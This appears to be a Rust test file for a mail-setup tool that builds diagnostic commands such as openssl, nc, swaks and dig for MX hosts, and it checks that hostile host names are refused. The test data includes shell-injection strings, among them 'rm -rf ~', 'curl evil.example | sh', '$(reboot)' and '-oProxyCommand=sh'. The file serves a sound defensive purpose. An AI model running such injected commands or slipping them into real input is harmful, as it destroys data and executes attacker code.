use super::*;
use crate::i18n::{self, Lang};
use crate::plan::{validate, HostInput, MailPlan};

fn ip(s: &str) -> IpAddr {
    s.parse().expect("test address")
}

fn lines(h: &Handoffs, kind: HandoffKind) -> Vec<String> {
    h.items
        .iter()
        .find(|i| i.kind == kind)
        .map(|i| i.commands.iter().map(|c| c.command.to_string()).collect())
        .unwrap_or_default()
}

fn two_hosts_with_ipv6() -> Handoffs {
    handoffs(
        "example.com",
        &[
            MxHost {
                name: "mx1.example.com",
                addresses: Some(vec![ip("192.0.2.10"), ip("2001:db8::10")]),
            },
            MxHost {
                name: "mx2.example.com.",
                addresses: Some(vec![ip("192.0.2.20"), ip("2001:db8::20")]),
            },
        ],
    )
}

/// Bytes that mean something to a POSIX shell (or end a line).
const SHELL_META: &[char] = &[
    ';', '&', '|', '$', '`', '(', ')', '<', '>', '*', '?', '!', '{', '}', '[', ']', '\'', '"', '\\', '#',
    '~', '\n', '\r', '\t',
];

/// True if the line, once the constant ` </dev/null` is set aside, has no
/// shell metacharacter and every word is plain.
fn clean(line: &str) -> bool {
    let body = line.strip_suffix(" </dev/null").unwrap_or(line);
    !body.contains(SHELL_META) && body.split(' ').all(shell::is_plain_word)
}

#[test]
fn two_mx_hosts_with_ipv6() {
    let h = two_hosts_with_ipv6();
    assert!(h.refused.is_empty(), "{:?}", h.refused);
    assert_eq!(h.items.len(), HandoffKind::ALL.len());
    assert_eq!(
        lines(&h, HandoffKind::StartTls),
        [
            "openssl s_client -starttls smtp -connect mx1.example.com:25 -servername mx1.example.com -showcerts </dev/null",
            "openssl s_client -starttls smtp -connect mx1.example.com:25 -servername mx1.example.com -verify_hostname mx1.example.com -brief </dev/null",
            "openssl s_client -starttls smtp -connect mx2.example.com:25 -servername mx2.example.com -showcerts </dev/null",
            "openssl s_client -starttls smtp -connect mx2.example.com:25 -servername mx2.example.com -verify_hostname mx2.example.com -brief </dev/null",
        ]
    );
    assert_eq!(
        lines(&h, HandoffKind::Port25),
        ["nc -vz -w 5 mx1.example.com 25", "nc -vz -w 5 mx2.example.com 25"]
    );
    assert_eq!(
        lines(&h, HandoffKind::OpenRelay),
        [
            "swaks --to postmaster@example.org --from test@example.net --server mx1.example.com --quit-after RCPT",
            "swaks --to postmaster@example.org --from test@example.net --server mx2.example.com --quit-after RCPT",
        ]
    );
    assert_eq!(
        lines(&h, HandoffKind::Ipv6),
        [
            "dig +short AAAA mx1.example.com",
            "nc -6 -vz -w 5 mx1.example.com 25",
            "dig +short AAAA mx2.example.com",
            "nc -6 -vz -w 5 mx2.example.com 25",
        ]
    );
    assert_eq!(
        lines(&h, HandoffKind::ReverseDns),
        [
            "dig +short -x 192.0.2.10",
            "dig +short -x 2001:db8::10",
            "dig +short A mx1.example.com",
            "dig +short AAAA mx1.example.com",
            "swaks --server mx1.example.com --quit-after EHLO",
            "dig +short -x 192.0.2.20",
            "dig +short -x 2001:db8::20",
            "dig +short A mx2.example.com",
            "dig +short AAAA mx2.example.com",
            "swaks --server mx2.example.com --quit-after EHLO",
        ]
    );
    let ipv6 = h
        .items
        .iter()
        .find(|i| i.kind == HandoffKind::Ipv6)
        .expect("ipv6 item");
    assert!(ipv6.notes.is_empty());
    assert_eq!(ipv6.good.first().map(String::as_str), Some("2001:db8::10"));
}

#[test]
fn no_ipv6_planned_asks_only_for_the_aaaa_lookup() {
    let h = handoffs(
        "example.com",
        &[MxHost {
            name: "mail.example.com",
            addresses: Some(vec![ip("192.0.2.10")]),
        }],
    );
    assert_eq!(lines(&h, HandoffKind::Ipv6), ["dig +short AAAA mail.example.com"]);
    let ipv6 = h
        .items
        .iter()
        .find(|i| i.kind == HandoffKind::Ipv6)
        .expect("ipv6 item");
    assert_eq!(ipv6.notes.len(), 1);
    assert_eq!(ipv6.notes[0].code, code::handoff::IPV6_NOT_PLANNED);
    assert_eq!(
        lines(&h, HandoffKind::ReverseDns),
        [
            "dig +short -x 192.0.2.10",
            "dig +short A mail.example.com",
            "swaks --server mail.example.com --quit-after EHLO",
        ]
    );
}

#[test]
fn unknown_addresses_are_looked_up_first() {
    let h = handoffs(
        "example.com",
        &[MxHost {
            name: "mx.example.net",
            addresses: None,
        }],
    );
    assert_eq!(
        lines(&h, HandoffKind::Ipv6),
        [
            "dig +short AAAA mx.example.net",
            "nc -6 -vz -w 5 mx.example.net 25"
        ]
    );
    let rdns = h
        .items
        .iter()
        .find(|i| i.kind == HandoffKind::ReverseDns)
        .expect("rdns item");
    assert_eq!(rdns.notes[0].code, code::handoff::RDNS_ADDRESSES_UNKNOWN);
}

#[test]
fn idn_hosts_appear_as_a_labels() {
    let h = handoffs(
        "例子.中国",
        &[MxHost {
            name: "邮件.例子.中国",
            addresses: None,
        }],
    );
    assert!(h.refused.is_empty(), "{:?}", h.refused);
    let all: Vec<String> = HandoffKind::ALL.iter().flat_map(|k| lines(&h, *k)).collect();
    assert!(!all.is_empty());
    for line in &all {
        assert!(line.is_ascii(), "{line}");
        assert!(clean(line), "{line}");
    }
    assert!(
        all.contains(&"nc -vz -w 5 xn--5nq051n.xn--fsqu00a.xn--fiqs8s 25".to_string()),
        "{all:?}"
    );
}

#[test]
fn the_relay_test_never_sends_to_the_users_own_domain() {
    let h = handoffs(
        "mail.example.org",
        &[MxHost {
            name: "mx.example.org",
            addresses: None,
        }],
    );
    assert_eq!(
        lines(&h, HandoffKind::OpenRelay),
        ["swaks --to postmaster@example.net --from test@example.com --server mx.example.org --quit-after RCPT"]
    );
}

#[test]
fn a_plan_gives_its_mail_hosts_and_backup_mx() {
    let plan = MailPlan {
        domain: "example.com".into(),
        hosts: vec![HostInput {
            name: "mail".into(),
            ipv4: vec!["192.0.2.10".into()],
            ipv6: vec!["2001:db8::10".into()],
            ..HostInput::default()
        }],
        backup_mx: vec![HostInput {
            name: "backup.example.net".into(),
            ..HostInput::default()
        }],
        ..MailPlan::default()
    };
    let Ok(plan) = validate(&plan) else {
        panic!("the test plan does not validate");
    };
    let h = from_plan(&plan);
    assert_eq!(
        lines(&h, HandoffKind::Port25),
        [
            "nc -vz -w 5 mail.example.com 25",
            "nc -vz -w 5 backup.example.net 25"
        ]
    );
    // The backup MX is external: its addresses are not known, so looked up.
    let rdns = lines(&h, HandoffKind::ReverseDns);
    assert!(
        rdns.contains(&"dig +short -x 2001:db8::10".to_string()),
        "{rdns:?}"
    );
    assert!(
        rdns.contains(&"dig +short A backup.example.net".to_string()),
        "{rdns:?}"
    );
}

/// Hostile names never reach a command: each is refused with a finding,
/// the good hosts beside them still get their commands, and no line has a
/// shell metacharacter. Prints `handoff: N passed, M failed`.
#[test]
fn hostile_names_never_reach_a_command() {
    let hostile = [
        "mx.example.com; rm -rf ~",
        "mx.example.com && curl evil.example | sh",
        "$(reboot).example.com",
        "`id`.example.com",
        "mx.example.com\nreboot",
        "mx example com",
        "-oProxyCommand=sh",
        "--server=evil.example",
        "mx.example.com'",
        "mx.example.com\"",
        "mx.example.com>x",
        "*.example.com",
        "mx.example.com#",
        "192.0.2.1",
        "[2001:db8::1]",
        "",
        "ｍｘ；.example.com",
        "mx\u{202e}.example.com",
    ];
    let (mut passed, mut failed) = (0, Vec::new());
    for bad in hostile {
        let h = handoffs(
            bad,
            &[
                MxHost {
                    name: bad,
                    addresses: Some(vec![ip("192.0.2.1"), ip("2001:db8::1")]),
                },
                MxHost {
                    name: "good.example.com",
                    addresses: None,
                },
            ],
        );
        let all: Vec<String> = HandoffKind::ALL.iter().flat_map(|k| lines(&h, *k)).collect();
        let refused = h.refused.iter().any(|f| f.code == code::handoff::REFUSED_NAME);
        let dirty: Vec<&String> = all.iter().filter(|l| !clean(l)).collect();
        let only_good = all
            .iter()
            .filter(|l| !l.starts_with("dig +short -x"))
            .all(|l| l.contains("good.example.com"));
        if refused && dirty.is_empty() && only_good && !all.is_empty() {
            passed += 1;
        } else {
            failed.push(format!(
                "{bad:?}: refused {refused}, dirty {dirty:?}, only good {only_good}"
            ));
        }
    }
    // Every line of the ordinary plans is clean too.
    for line in HandoffKind::ALL
        .iter()
        .flat_map(|k| lines(&two_hosts_with_ipv6(), *k))
    {
        if clean(&line) {
            passed += 1;
        } else {
            failed.push(line);
        }
    }
    println!("handoff: {passed} passed, {} failed", failed.len());
    assert!(failed.is_empty(), "{}", failed.join("\n"));
}

/// Every text of every item and note renders whole in both languages.
#[test]
fn every_text_is_in_both_languages() {
    let mut h = two_hosts_with_ipv6();
    let more = handoffs(
        "x;y",
        &[MxHost {
            name: "mx.example.com",
            addresses: Some(vec![ip("192.0.2.1")]),
        }],
    );
    let unknown = handoffs(
        "example.com",
        &[MxHost {
            name: "mx.example.com",
            addresses: None,
        }],
    );
    h.items.extend(more.items.into_iter().chain(unknown.items));
    h.refused.extend(more.refused);
    for kind in HandoffKind::ALL {
        for c in [kind.code(), kind.good_code(), kind.bad_code(), kind.why_code()] {
            for lang in Lang::ALL {
                let text = i18n::text(lang, c);
                assert_ne!(text, c, "{c} has no {} text", lang.tag());
                assert!(i18n::unfilled(text).is_empty(), "{c}: {text}");
            }
        }
    }
    let findings = h
        .items
        .iter()
        .flat_map(|i| i.notes.iter())
        .chain(h.refused.iter());
    let mut codes = Vec::new();
    for f in findings {
        codes.push(f.code);
        assert!(
            i18n::render_problems(f).is_empty(),
            "{:?}",
            i18n::render_problems(f)
        );
    }
    for c in [
        code::handoff::PORT25_OUTBOUND_BLOCKED,
        code::handoff::RELAY_TRUSTED_NETWORK,
        code::handoff::RDNS_ADDRESSES_UNKNOWN,
        code::handoff::IPV6_NOT_PLANNED,
        code::handoff::REFUSED_NAME,
    ] {
        assert!(codes.contains(&c), "{c} never emitted");
    }
    i18n::assert_catalogued(code::handoff::ALL);
}
